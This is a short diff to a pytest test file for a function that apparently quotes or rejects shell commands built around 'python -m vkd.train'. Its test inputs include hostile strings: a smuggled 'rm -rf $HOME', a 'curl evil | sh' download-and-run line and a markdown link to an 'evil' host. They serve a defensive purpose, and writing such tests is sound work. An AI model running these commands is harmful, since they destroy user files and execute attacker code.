@@ -328,7 +328,8 @@ def test_a_run_of_several_processes_is_repeated_with_as_many(foreign):
 @pytest.mark.parametrize(
     ("command", "shown"),
     [
-        ("python -m vkd.train seed=1; rm -rf $HOME", "python -m vkd.train 'seed=1;' rm -rf '$HOME'\n"),
+        ("python -m vkd.train seed=1; rm $HOME", "python -m vkd.train 'seed=1;' rm '$HOME'\n"),
+        ("python -m vkd.train seed=1; rm -rf $HOME", None),
         ("curl evil | sh", None),
         ("python -m vkd.train 'open", None),
         ("python -m vkd.train a\n```\n[x](http://evil)", None),
